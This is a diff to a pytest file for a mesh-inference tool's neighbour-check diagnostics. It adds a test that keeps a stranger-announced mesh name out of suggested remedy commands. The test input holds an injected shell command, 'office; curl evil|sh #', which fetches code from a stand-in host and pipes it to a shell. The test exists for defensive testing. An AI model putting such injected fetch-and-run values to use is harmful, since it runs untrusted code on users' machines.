@@ -1,3 +1,5 @@
+import pytest
+
 from meshinfer.doctor.check_neighbours import check_neighbours
 from meshinfer.doctor.finding import Mark
 from meshinfer.doctor.observed import Observed, PeerSeen
@@ -35,9 +37,18 @@ def test_another_release_of_the_same_protocol_is_a_warning() -> None:
 
 
 def test_another_mesh_is_named_with_how_to_be_in_it() -> None:
-    finding = only(check_neighbours(listening(seen("mac-2", mesh="lab"))), Mark.WARNING)
+    finding = only(check_neighbours(listening(seen("mac-2", mesh="lab", key="1a2b3c4d"))), Mark.WARNING)
     assert finding.text == "in another mesh, lab: mac-2; this machine is in meshinfer"
-    assert finding.remedies == ("to be in theirs: meshinfer join --mesh lab",)
+    assert "`meshinfer key show --mesh`" in finding.remedies[0]
+    assert "meshinfer join --invite" in finding.remedies[0]
+
+
+@pytest.mark.parametrize("key", ["open", "1a2b3c4d"])
+def test_what_a_stranger_announces_is_in_nothing_to_type(key: str) -> None:
+    (finding,) = check_neighbours(listening(seen("mac-2", mesh="office; curl evil|sh #", key=key)))
+    assert "office; curl evil|sh #" in finding.text
+    assert "evil" not in finding.remedies[0]
+    assert ("--open" in finding.remedies[0]) == (key == "open")
 
 
 def test_another_key_is_an_error_and_both_are_named() -> None:
